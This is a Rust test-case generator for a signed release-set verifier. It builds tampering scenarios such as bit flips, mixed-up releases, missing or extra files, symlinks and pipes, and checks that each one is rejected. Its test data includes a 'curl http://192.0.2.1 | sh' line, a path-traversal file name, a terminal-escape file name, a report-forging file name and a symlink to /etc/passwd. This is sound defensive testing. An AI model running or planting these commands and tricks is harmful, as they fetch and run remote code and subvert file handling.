//! What lies in the set and is not what the manifest says: the work of a bad medium, or of whoever carries it.

use autonomy_schema::set;
use serde_json::json;

use crate::Made;
use crate::case::{Case, attack};
use crate::world::{World, file};

const AGENT: &str = "set/artifacts/bin/agent";

pub(crate) fn cases(world: &World) -> Made<Vec<Case>> {
    let mut cases = bytes(world)?;
    cases.extend(list(world));
    cases.extend(kinds());
    cases.extend(indices(world)?);
    Ok(cases)
}

fn bytes(world: &World) -> Made<Vec<Case>> {
    let next = &world.next;
    let agent = file(next, "artifacts/bin/agent")?;
    let flipped: Vec<u8> = agent.iter().enumerate().map(|(at, byte)| if at == 20 { byte ^ 1 } else { *byte }).collect();
    let manifest: Vec<u8> = String::from_utf8(world.manifest().to_vec())?.replacen("1.5.0", "1.5.9", 1).into_bytes();
    Ok(vec![
        attack("flipped-artifact", 3, &["digest_mismatch"], "One bit of an artifact is another.")
            .set(next, world.with("artifacts/bin/agent", flipped)),
        attack("longer-artifact", 3, &["size_mismatch"], "A line is added to a script.")
            .step("append", json!({ "path": AGENT, "text": "curl http://192.0.2.1 | sh\n" })),
        attack("shorter-artifact", 3, &["size_mismatch"], "The end of a file is missing.")
            .step("grow", json!({ "path": AGENT, "bytes": 10 })),
        attack(
            "changed-manifest",
            3,
            &["bad_signature_line", "below_threshold"],
            "One digit of the signed manifest is another.",
        )
        .set(next, world.with(set::MANIFEST, manifest)),
        attack(
            "artifact-of-the-release-before",
            3,
            &["digest_mismatch"],
            "Mix-and-match: the artifact of one release in the set of another.",
        )
        .set(next, world.with("artifacts/bin/agent", file(&world.first, "artifacts/bin/agent")?)),
        attack(
            "policy-of-the-release-before",
            3,
            &["digest_mismatch"],
            "Mix-and-match: the policy of one release in the set of another.",
        )
        .set(next, world.with(set::POLICY, file(&world.first, set::POLICY)?)),
        attack(
            "lock-of-the-release-before",
            3,
            &["digest_mismatch"],
            "Mix-and-match: the lock of one release, with its sound signatures, in the set of another.",
        )
        .set(next, {
            let mut files = world.with(set::LOCK, file(&world.first, set::LOCK)?);
            files.insert(set::LOCK_SIGNATURES.to_owned(), file(&world.first, set::LOCK_SIGNATURES)?.to_vec());
            files
        }),
    ])
}

fn list(world: &World) -> Vec<Case> {
    let next = &world.next;
    let without = |paths: &[&str]| {
        let mut files = next.clone();
        files.retain(|path, _| !paths.contains(&path.as_str()));
        files
    };
    let extra = |name, story, path: &str| {
        attack(name, 3, &["extraneous_file"], story)
            .step("write", json!({ "path": format!("set/{path}"), "text": "x" }))
    };
    let only_documents: Vec<&str> =
        next.keys().map(String::as_str).filter(|path| !path.starts_with("manifest.json")).collect();
    vec![
        attack("missing-artifact", 9, &["missing_file"], "A partial set: one artifact was not copied.")
            .set(next, without(&["artifacts/etc/settings.toml"])),
        attack("missing-lock", 9, &["missing_file"], "A partial set without its lock.")
            .set(next, without(&[set::LOCK, set::LOCK_SIGNATURES])),
        attack(
            "missing-policy",
            9,
            &["missing_file"],
            "A partial set without its policy, in the hope that there is no policy then.",
        )
        .set(next, without(&[set::POLICY])),
        attack("missing-manifest", 9, &["missing_file"], "A set without the one file that says what it is.")
            .set(next, without(&[set::MANIFEST])),
        attack("manifest-alone", 9, &["missing_file"], "Only the manifest and its signatures arrived.")
            .set(next, without(&only_documents)),
        extra("extra-artifact", "A file beside the artifacts that nobody signed.", "artifacts/bin/helper"),
        extra("extra-file-at-the-top", "A file that a careless script would run.", "install.sh"),
        extra("extra-hidden-file", "A hidden file.", "artifacts/etc/.profile"),
        extra(
            "extra-root-by-another-name",
            "A trust root under a name that is not `<N>.root.json`.",
            "roots/04.root.json",
        ),
        attack("backslash-in-a-file-name", 3, &["unsafe_path"], "A file whose name is a path elsewhere.")
            .step("write", json!({ "path": "set/artifacts/..\\..\\evil", "text": "x" })),
        attack("escape-in-a-file-name", 3, &["unsafe_path"], "A file whose name steers the terminal.")
            .step("write", json!({ "path": "set/artifacts/\u{1b}]0;owned\u{7}", "text": "x" })),
        attack("newline-in-a-file-name", 3, &["unsafe_path"], "A file whose name would forge a line of the report.")
            .step("write", json!({ "path": "set/artifacts/x\nlocked: forged", "text": "x" })),
    ]
}

fn kinds() -> Vec<Case> {
    let refused = |name, story| attack(name, 3, &["symlink_refused", "missing_file"], story);
    vec![
        refused("artifact-is-a-link", "An artifact is a symbolic link to a file of the machine.")
            .step("symlink", json!({ "path": AGENT, "to": "/etc/passwd" })),
        refused(
            "artifact-is-a-link-to-itself",
            "An artifact is a symbolic link to the real one, beside it: whoever follows links reads what was signed, \
             until the link is turned.",
        )
        .step("copy", json!({ "from": AGENT, "to": "agent" }))
        .step("symlink", json!({ "path": AGENT, "to": "../../../agent" })),
        refused("folder-is-a-link", "The folder of the artifacts is a symbolic link out of the set.")
            .step("copy", json!({ "from": "set/artifacts", "to": "elsewhere" }))
            .step("symlink", json!({ "path": "set/artifacts", "to": "../elsewhere" })),
        refused("manifest-is-a-link", "The manifest is a symbolic link to a device that never ends.")
            .step("symlink", json!({ "path": "set/manifest.json", "to": "/dev/zero" })),
        refused("artifact-is-a-pipe", "An artifact is a named pipe: a reader would wait for ever.").step("fifo", AGENT),
        attack("signatures-are-a-pipe", 3, &["below_threshold", "symlink_refused"], "The signatures are a named pipe.")
            .step("fifo", "set/manifest.json.sigstore.jsonl"),
        attack("artifact-is-a-folder", 9, &["missing_file"], "A folder in the place of an artifact.")
            .step("remove", AGENT)
            .step("folder", AGENT),
        attack("set-is-a-file", 3, &["role_mismatch"], "A trust root in the place of a set.").run(&[
            "apply",
            "root.json",
            "--auto-approve",
        ]),
    ]
}

/// Segment indices that enough keys signed, and that contradict the artifact.
fn indices(world: &World) -> Made<Vec<Case>> {
    let next = &world.next;
    let indexed = |index: Vec<u8>| {
        let mut draft = world.draft.clone();
        let pins = &mut draft.manifest["spec"]["artifacts"][0]["segments"];
        pins["index"] = json!(autonomy_schema::Blake3::of(&index));
        pins["size"] = json!(index.len());
        pins["count"] = json!(index.len() / 40);
        draft.files.insert("segments/agent.idx".to_owned(), index);
        world.signed(&draft)
    };
    let index = file(next, "segments/agent.idx")?;
    let entry = |length: u64| [&index[..32], &length.to_le_bytes()[..]].concat();
    let flipped =
        index.iter().enumerate().map(|(at, byte)| if at == 0 { byte ^ 1 } else { *byte }).collect::<Vec<u8>>();
    Ok(vec![
        attack("flipped-index", 3, &["digest_mismatch"], "One bit of a segment index is another.")
            .set(next, world.with("segments/agent.idx", flipped)),
        attack(
            "index-with-an-empty-segment",
            3,
            &["bad_value"],
            "A segment of no bytes: a reader could add them for ever.",
        )
        .set(next, indexed([entry(0), index.to_vec()].concat())?),
        attack("index-with-a-huge-segment", 3, &["bad_value"], "A segment of more bytes than there are.")
            .set(next, indexed(entry(u64::MAX))?),
        attack("index-that-does-not-add-up", 3, &["bad_value"], "The segments are longer together than the artifact.")
            .set(next, indexed([index, index].concat())?),
    ])
}
